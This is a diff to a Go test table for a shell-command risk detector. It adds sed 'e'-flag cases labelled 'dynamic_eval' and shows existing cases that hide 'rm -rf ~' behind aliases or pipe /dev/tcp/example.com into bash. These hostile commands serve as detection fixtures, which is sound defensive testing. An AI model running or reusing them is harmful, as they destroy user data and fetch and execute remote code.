@@ -409,6 +409,12 @@ func TestProblems(t *testing.T) {
 		{`typeset -A BASH_CMDS=([x]=/bin/rm); x -rf ~`, "dynamic_command"},
 		{`hash -p "$p" x; x -rf ~`, "dynamic_command"},
 		{`hash -p /bin/rm "$n"`, "dynamic_command"},
+		{`sed 's/.*/rm -rf ~/e' f`, "dynamic_eval"},
+		{`sed -n 's/x/y/ep' f`, "dynamic_eval"},
+		{`sed 'e' f`, "dynamic_eval"},
+		{`sed -E '/a/{s/b/c/;e
+}' f`, "dynamic_eval"},
+		{`sed "1e $CMD" f`, "dynamic_eval"},
 		{`bash < /dev/tcp/example.com/80`, "dynamic_eval"},
 		{`exec 3</dev/tcp/example.com/80; bash <&3`, "dynamic_eval"},
 	}
